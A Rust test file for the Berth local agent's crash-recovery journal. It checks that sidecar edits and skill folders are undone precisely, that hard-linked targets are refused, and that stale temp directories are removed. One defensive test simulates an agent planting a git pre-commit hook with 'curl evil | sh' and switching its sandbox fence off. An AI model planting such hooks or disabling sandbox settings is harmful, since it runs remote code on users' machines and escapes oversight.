//! The journal: leftovers are replayed to the exact original bytes, but never those of
//! a Berth process still running.
#![allow(clippy::unwrap_used, clippy::expect_used)] // Test code: a panic is a failed test.

use crate::common;

use berth_local_agent::inject::journal::Journal;
use berth_local_agent::inject::sidecar::Sidecars;
use common::{Sandbox, tree};

fn tid(id: &str) -> berth_core::TaskId {
    berth_core::TaskId::parse(id).unwrap()
}

#[test]
fn leftovers_are_replayed_unless_their_process_is_alive() {
    let sb = Sandbox::new();
    let dir = sb.dir("work/app");
    std::fs::write(dir.join("AGENTS.md"), "user text without newline").unwrap();
    let skill = sb.dir("plugins/s");
    std::fs::write(skill.join("SKILL.md"), "x").unwrap();
    let before = tree(&dir);
    let cfg = sb.cfg();
    let exec = berth_local_agent::NativeExecutor::new(cfg.clone()).unwrap();
    let pinned = exec.validate_dir(dir.to_str().unwrap()).unwrap();
    // Another "process" (its own journal) writes sidecars and never cleans up.
    let journal = Journal::new(cfg.journal_dir());
    let mut sidecars = Sidecars::new(&journal, &tid("t-1"));
    sidecars
        .append_block(&pinned, "AGENTS.md", "brief")
        .unwrap();
    sidecars
        .append_block(&pinned, "CLAUDE.md", "brief")
        .unwrap();
    sidecars
        .install_skill(&pinned, ".agents/skills", "s", &skill)
        .unwrap();
    drop(sidecars);
    assert_ne!(tree(&dir), before);

    // While it lives, its journal is left alone.
    let report = exec.replay_leftovers();
    assert_eq!(report.in_use, vec![journal.path().unwrap()]);
    assert!(report.restored.is_empty());
    assert_ne!(tree(&dir), before);

    drop(journal);
    let report = common::replay(&exec);
    assert_eq!(report.restored, vec![dir.display().to_string()]);
    assert_eq!(tree(&dir), before);
    assert!(tree(&cfg.journal_dir()).is_empty());
    assert_eq!(exec.replay_leftovers(), Default::default());
}

#[test]
fn finished_runs_are_not_replayed_and_the_file_is_emptied() {
    let sb = Sandbox::new();
    let dir = sb.dir("work/app");
    let cfg = sb.cfg();
    let exec = berth_local_agent::NativeExecutor::new(cfg.clone()).unwrap();
    let pinned = exec.validate_dir(dir.to_str().unwrap()).unwrap();
    let journal = Journal::new(cfg.journal_dir());
    let mut sidecars = Sidecars::new(&journal, &tid("t1"));
    sidecars
        .append_block(&pinned, "CLAUDE.md", "brief")
        .unwrap();
    sidecars.cleanup(&pinned).1.unwrap();
    let path = journal.path().unwrap();
    assert_eq!(std::fs::read(&path).unwrap(), b"");
    // The user now writes a file with Berth's block text: a later replay leaves it.
    std::fs::write(dir.join("CLAUDE.md"), "mine").unwrap();
    drop(journal);
    let report = common::replay(&exec);
    assert_eq!(report.restored, Vec::<String>::new());
    assert_eq!(std::fs::read(dir.join("CLAUDE.md")).unwrap(), b"mine");
}

#[test]
fn recover_reports_what_replay_did() {
    use berth_web::executor::Executor;
    let sb = Sandbox::new();
    let dir = sb.dir("work/app");
    let cfg = sb.cfg();
    let exec = berth_local_agent::NativeExecutor::new(cfg.clone()).unwrap();
    let pinned = exec.validate_dir(dir.to_str().unwrap()).unwrap();
    let journal = Journal::new(cfg.journal_dir());
    let mut sidecars = Sidecars::new(&journal, &tid("t1"));
    sidecars
        .append_block(&pinned, "CLAUDE.md", "brief")
        .unwrap();
    drop((sidecars, journal));
    let recovered = common::after_restart(
        || exec.recover(),
        |lines| {
            lines
                .iter()
                .any(|l| l.contains("another Berth process holds it"))
        },
    );
    assert_eq!(
        recovered,
        vec![format!(
            "restored {}, left mid-run by an interrupted task",
            dir.display()
        )]
    );
    assert!(!dir.join("CLAUDE.md").exists());
}

/// Issue 33, break 5: a sidecar target with more than one link is never written, and
/// the refusal names the file and the rule (`sidecar_blocked`). The other name's file
/// keeps its bytes, and nothing is journaled.
#[test]
fn a_hard_linked_target_is_never_written() {
    let sb = Sandbox::new();
    let dir = sb.dir("work/app");
    let outside = sb.dir("outside");
    std::fs::write(outside.join("bashrc"), "alias ll='ls -l'\n").unwrap();
    std::fs::hard_link(outside.join("bashrc"), dir.join("CLAUDE.md")).unwrap();
    let cfg = sb.cfg();
    let exec = berth_local_agent::NativeExecutor::new(cfg.clone()).unwrap();
    let pinned = exec.validate_dir(dir.to_str().unwrap()).unwrap();
    let journal = Journal::new(cfg.journal_dir());
    let mut sidecars = Sidecars::new(&journal, &tid("t1"));
    let checked = sidecars.check_block(&pinned, "CLAUDE.md").unwrap_err();
    let err = sidecars
        .append_block(&pinned, "CLAUDE.md", "brief")
        .unwrap_err();
    assert_eq!(checked.to_string(), err.to_string());
    let r = err.refusal("~/work/app").unwrap();
    assert_eq!(
        (r.code, r.message.as_str()),
        (
            berth_core::ErrorCode::SidecarBlocked,
            "CLAUDE.md in ~/work/app is a hard link (2 links): Berth writes the brief only into a regular file with one link, never through a link or into a special file"
        )
    );
    assert!(
        r.hint.starts_with("give CLAUDE.md a copy of its own"),
        "{r:?}"
    );
    assert!(sidecars.is_empty());
    assert_eq!(
        std::fs::read(outside.join("bashrc")).unwrap(),
        b"alias ll='ls -l'\n"
    );
    assert_eq!(journal.path(), None, "nothing was journaled");
}

/// Issue 33, break 6: undoing a skill folder removes exactly what Berth wrote, at
/// cleanup and at crash recovery alike. A file the agent added stays, and so does a
/// file of Berth's the agent changed; both are reported as kept; a folder of Berth's
/// that holds nothing else goes.
#[test]
fn undo_removes_only_what_berth_wrote_in_a_skill_folder() {
    let sb = Sandbox::new();
    let skill = sb.dir("plugins/s");
    std::fs::write(skill.join("SKILL.md"), "x").unwrap();
    std::fs::create_dir_all(skill.join("refs/deep")).unwrap();
    std::fs::write(skill.join("refs/guide.md"), "guide").unwrap();
    std::fs::write(skill.join("refs/deep/more.md"), "more").unwrap();
    std::fs::create_dir_all(skill.join("empty")).unwrap();
    let cfg = sb.cfg();
    let exec = berth_local_agent::NativeExecutor::new(cfg.clone()).unwrap();
    for crash in [false, true] {
        let dir = sb.dir(if crash { "work/crash" } else { "work/clean" });
        let pinned = exec.validate_dir(dir.to_str().unwrap()).unwrap();
        let journal = Journal::new(cfg.journal_dir());
        let mut sidecars = Sidecars::new(&journal, &tid("t1"));
        let rel = sidecars
            .install_skill(&pinned, ".claude/skills", "s", &skill)
            .unwrap();
        assert_eq!(rel, ".claude/skills/s");
        let installed = dir.join(&rel);
        assert_eq!(
            std::fs::read(installed.join("refs/deep/more.md")).unwrap(),
            b"more"
        );
        // The agent's work: a note, a file in Berth's subfolder, an edit of Berth's.
        std::fs::write(installed.join("MY_NOTES.md"), "mine").unwrap();
        std::fs::write(installed.join("refs/deep/extra.md"), "also mine").unwrap();
        std::fs::write(installed.join("refs/guide.md"), "guide, edited").unwrap();
        let kept = if crash {
            drop((sidecars, journal));
            let report = common::replay(&exec);
            assert_eq!(report.restored, vec![dir.display().to_string()]);
            report.kept
        } else {
            sidecars
                .cleanup(&pinned)
                .0
                .kept
                .into_iter()
                .map(|k| format!("{}/{k}", dir.display()))
                .collect()
        };
        let d = dir.display();
        assert_eq!(
            kept,
            vec![
                format!("{d}/.claude/skills/s/MY_NOTES.md"),
                format!("{d}/.claude/skills/s/refs/deep/extra.md"),
                format!("{d}/.claude/skills/s/refs/guide.md"),
            ],
            "crash: {crash}"
        );
        let left: Vec<(String, Vec<u8>)> = tree(&dir).into_iter().collect();
        let folder = |p: &str| (p.to_owned(), b"<dir>".to_vec());
        assert_eq!(
            left,
            vec![
                folder(".claude"),
                folder(".claude/skills"),
                folder(".claude/skills/s"),
                (".claude/skills/s/MY_NOTES.md".into(), b"mine".to_vec()),
                folder(".claude/skills/s/refs"),
                folder(".claude/skills/s/refs/deep"),
                (
                    ".claude/skills/s/refs/deep/extra.md".into(),
                    b"also mine".to_vec()
                ),
                (
                    ".claude/skills/s/refs/guide.md".into(),
                    b"guide, edited".to_vec()
                ),
            ],
            "crash: {crash}"
        );
        assert!(!installed.join("empty").exists(), "crash: {crash}");
    }
}

/// Cutting Berth's own block out is a restore, not a write of Berth's text: it goes
/// through a hard link made during the run (the block is only there because Berth
/// wrote it), so the user's bytes come back under every name.
#[test]
fn a_block_is_cut_out_even_after_the_file_was_hard_linked_during_the_run() {
    let sb = Sandbox::new();
    let dir = sb.dir("work/app");
    std::fs::write(dir.join("CLAUDE.md"), "# Mine\n").unwrap();
    let cfg = sb.cfg();
    let exec = berth_local_agent::NativeExecutor::new(cfg.clone()).unwrap();
    let pinned = exec.validate_dir(dir.to_str().unwrap()).unwrap();
    let journal = Journal::new(cfg.journal_dir());
    let mut sidecars = Sidecars::new(&journal, &tid("t1"));
    sidecars
        .append_block(&pinned, "CLAUDE.md", "brief")
        .unwrap();
    std::fs::hard_link(dir.join("CLAUDE.md"), dir.join("copy.md")).unwrap();
    assert_eq!(sidecars.cleanup(&pinned).0.kept, Vec::<String>::new());
    assert_eq!(std::fs::read(dir.join("CLAUDE.md")).unwrap(), b"# Mine\n");
    assert_eq!(std::fs::read(dir.join("copy.md")).unwrap(), b"# Mine\n");
}

/// The guard's snapshot rides in the journal: what an agent of a Berth that crashed
/// mid-run wrote into `.git/hooks`, `.git/config` or `.berth` is put back at the next
/// start, and named.
#[test]
fn guarded_paths_are_put_back_at_the_next_start_after_a_crash() {
    let sb = Sandbox::new();
    let dir = sb.dir("work/app");
    std::fs::create_dir_all(dir.join(".git/hooks")).unwrap();
    std::fs::write(dir.join(".git/config"), "[core]\n").unwrap();
    std::fs::create_dir_all(dir.join(".berth")).unwrap();
    std::fs::write(dir.join(".berth/settings.jsonc"), "{}").unwrap();
    let before = tree(&dir);
    let cfg = sb.cfg();
    let exec = berth_local_agent::NativeExecutor::new(cfg.clone()).unwrap();
    let pinned = exec.validate_dir(dir.to_str().unwrap()).unwrap();
    let journal = Journal::new(cfg.journal_dir());
    let mut sidecars = Sidecars::new(&journal, &tid("t1"));
    let guard_dir = cfg.berth_home.join("guard");
    sidecars.guard(&pinned, &guard_dir, &[]).unwrap();
    // The agent, then the crash.
    std::fs::write(dir.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
    std::fs::write(dir.join(".berth/settings.jsonc"), r#"{"fence": "off"}"#).unwrap();
    drop((sidecars, journal));

    let report = common::replay(&exec);
    assert_eq!(report.restored, vec![dir.display().to_string()]);
    let d = dir.display();
    assert_eq!(
        report.guarded,
        [
            format!("{d}/.git/hooks/pre-commit (added)"),
            format!("{d}/.berth/settings.jsonc (changed)"),
        ]
    );
    assert_eq!(tree(&dir), before);
    assert!(
        tree(&guard_dir).is_empty(),
        "the snapshot is removed once applied"
    );
    assert_eq!(exec.replay_leftovers(), Default::default());
}

/// A task's temporary directory left by a Berth that stopped mid-run (fenced agents
/// write there) is removed at the next start, and said; nothing outside it is touched
/// through a symlink in it.
#[test]
fn recover_removes_the_temporary_directories_of_interrupted_tasks() {
    use berth_web::executor::Executor;
    let sb = Sandbox::new();
    let outside = sb.dir("elsewhere");
    std::fs::write(outside.join("keep.txt"), "keep").unwrap();
    let cfg = sb.cfg();
    let stale = cfg.berth_home.join("tmp/0123abcd");
    std::fs::create_dir_all(stale.join("sub")).unwrap();
    std::fs::write(stale.join("sub/scratch.bin"), "x").unwrap();
    std::os::unix::fs::symlink(&outside, stale.join("link")).unwrap();
    let exec = berth_local_agent::NativeExecutor::new(cfg).unwrap();
    assert_eq!(
        exec.recover(),
        vec![format!(
            "removed {}, an interrupted task's temporary directory",
            stale.display()
        )]
    );
    assert!(!stale.exists());
    assert_eq!(
        std::fs::read_to_string(outside.join("keep.txt")).unwrap(),
        "keep"
    );
    assert_eq!(exec.recover(), Vec::<String>::new());
}
